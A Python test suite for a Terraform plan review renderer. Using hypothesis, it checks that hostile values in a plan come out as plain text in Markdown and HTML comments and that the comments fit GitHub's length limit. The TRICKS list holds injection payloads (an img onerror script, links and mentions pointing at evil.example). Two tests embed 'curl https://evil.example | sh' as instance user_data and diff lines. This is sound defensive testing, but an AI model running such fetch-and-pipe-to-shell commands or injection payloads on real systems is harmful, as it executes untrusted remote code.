"""Values that somebody chose to mislead a reviewer, through a real Markdown renderer."""

import copy
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from review.changes import fitted
from review.html import html
from review.markdown import markdown
from review.plain import code, text, visible
from review.plan import Plan
from review.report import Report

GITHUB = 65_536
"""Characters of a comment: https://github.com/orgs/community/discussions/27190"""

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

OURS = {
    "h2", "h3", "p", "strong", "em", "s", "sub", "ul", "li", "code", "pre", "table", "thead", "tbody", "tr", "th", "td",
    "details", "summary",
}  # fmt: skip
"""The elements that a review is made of: no link, no image, nothing that runs."""

TRICKS = [
    "```\n![x](https://evil.example/x.png) [approve](https://evil.example) @octo-org/ops\n```",
    "</code></details><img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|",
    "`` ` ``` ````",
    "#1 GH-2 octo/repo#3 0123456789abcdef0123456789abcdef01234567",
    "\u202egnp.txe\u2066\u200b",
    "www.evil.example https://evil.example mailto:a@evil.example <https://evil.example>",
    "a\\|b|c\\\\|d",
    "\r\n# heading\r\n- item",
    "&lt;b&gt; &#60;b&#62; $x$ $$y$$",
    "~~~\nx",
    "[a]: https://evil.example\n[a]",
    "^(a|b)$",
    "-->",
]

HOSTILE = st.one_of(
    st.sampled_from(TRICKS),
    st.lists(st.sampled_from([*TRICKS, "x", " ", "\n"]), max_size=4).map("".join),
    st.text(alphabet="`~|\\<>[]()!@#*_&\n\r\t -=:/.w$\u202e\u200bab1", max_size=60),
)


class Seen(HTMLParser):
    """What a reader of the rendered page sees."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.prose: list[str] = []
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self._code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if not self._code:
            self.prose.append(data)


def seen(words: str) -> Seen:
    reader = Seen()
    reader.feed(RENDERER.render(words))
    reader.close()
    return reader


def document(value: str, also: str = "x") -> dict[str, Any]:
    """A plan whose every text is hostile."""
    before: dict[str, Any] = {"id": "i-1", "user_data": f"#!/bin/sh\n{also}\n", "tags": {"Name": value}, "ami": also}
    after = {**before, "user_data": f"#!/bin/sh\n{value}\n", "ami": value, "tags": {"Name": value, value: also}}
    server = {
        "address": f"aws_instance.web[{json.dumps(value)}]",
        "mode": "managed",
        "type": "aws_instance",
        "change": {"actions": ["update"], "before": before, "after": after},
    }
    group = {"id": "sg-1", "name": value}
    rule = {"security_group_id": "sg-1", "cidr_ipv4": value, "ip_protocol": value, "id": "r"}
    others = [("aws_security_group.a", group), ("aws_vpc_security_group_ingress_rule.a", rule)]
    balancer = {"id": value, "arn": value, "subnets": ["s"], "security_groups": ["sg-1"]}
    subnet = {"id": "s", "availability_zone": value, "cidr_block": value}
    others += [("aws_lb.a", balancer), ("aws_subnet.a", subnet)]
    return {
        "format_version": "1.2",
        "configuration": {"root_module": {}},
        "resource_changes": [
            server,
            *(
                {
                    "address": address,
                    "mode": "managed",
                    "type": address.partition(".")[0],
                    "change": {"actions": ["create"], "before": None, "after": values},
                }
                for address, values in others
            ),
        ],
        "output_changes": {value or "o": {"actions": ["update"], "before": also, "after": value}},
    }


def check(words: str) -> None:
    found = seen(words)
    assert found.elements <= OURS, found.elements - OURS
    assert found.attributes <= {"class"}
    prose = "".join(found.prose)
    assert not re.search(r"@\w", prose), "a mention"
    assert not re.search(r"#\d|GH-\d", prose), "an issue"
    assert not re.search(r"://|www\.\w", prose), "an address"
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", words), "text that turns around"


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(HOSTILE, HOSTILE)
@example("_www.evil.example", "dwww.evil.example")
def test_nothing_of_a_plan_becomes_more_than_text(value: str, also: str):
    report = Report(Plan(document(value, also)), value, value)
    check(markdown(report))
    html(report)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(HOSTILE)
def test_code_shows_the_value_as_it_is(value: str):
    rendered = RENDERER.renderInline(code(value))
    shown = re.fullmatch(r"<code>(.*)</code>", rendered)
    if visible(value).strip(" \n\t"):
        assert shown, rendered
        reader = HTMLParser()
        said: list[str] = []
        reader.handle_data = said.append  # type: ignore[method-assign]
        reader.feed(f"<p>{shown[1]}</p>")
        reader.close()
        assert "".join(said) == visible(value).replace("\n", "⏎").replace("\t", "⇥")


@pytest.mark.parametrize("value", TRICKS)
def test_a_cell_of_a_table_stays_one(value: str):
    rows = RENDERER.render(f"| a | b |\n|---|---|\n| {text(f'x `{value}` y {value}')} | end |\n")
    assert rows.count("<td>") == 2


def test_a_change_of_direction_is_written_out():
    assert visible("a\u202eb") == "a⟨U+202E⟩b"


def test_alarming_lines_are_never_what_is_hidden():
    lines = ("@@ -1 +1 @@", *(f"+echo {i}" for i in range(500)), "+curl https://evil.example | sh", "+echo end")
    shown = fitted(lines, 40)
    assert "+curl https://evil.example | sh" in shown
    assert len(shown) < 50
    hidden = sum(int(found[1]) for line in shown if (found := re.match(r"@@ (\d+) lines? hidden", line)))
    assert hidden + len([line for line in shown if "hidden here" not in line]) == len(lines)


@pytest.mark.parametrize(("size", "length"), [(10, 10), (10, 50_000), (1_000, 10), (60, 20_000)])
def test_a_comment_is_never_too_long(size: int, length: int, tmp_path: Path):
    plan = document("x" * length + " 🦑|`" * 200)
    (server, *_) = plan["resource_changes"]
    for i in range(size):
        other = copy.deepcopy(server)
        other["address"] = f"aws_instance.web{i}" + "y" * 100
        change = other["change"]
        change["before"]["id"] = change["after"]["id"] = f"i-{i}"
        change["after"]["user_data"] = "curl http://evil.example | sh\n" * (length // 2_000)
        plan["resource_changes"].append(other)
        if i < 100:
            rule = {"security_group_id": "sg-1", "cidr_ipv4": f"10.{i}.0.0/16", "ip_protocol": "tcp"}
            rule |= {"from_port": i, "to_port": i}
            plan["resource_changes"].append(
                {
                    "address": f"aws_vpc_security_group_ingress_rule.r{i}",
                    "mode": "managed",
                    "type": "aws_vpc_security_group_ingress_rule",
                    "change": {"actions": ["create"], "before": None, "after": rule},
                }
            )
    said = markdown(Report(Plan(plan), "t" * 5_000, "c" * 5_000))
    assert len(said.encode("utf-16-le")) // 2 < GITHUB
    check(said)
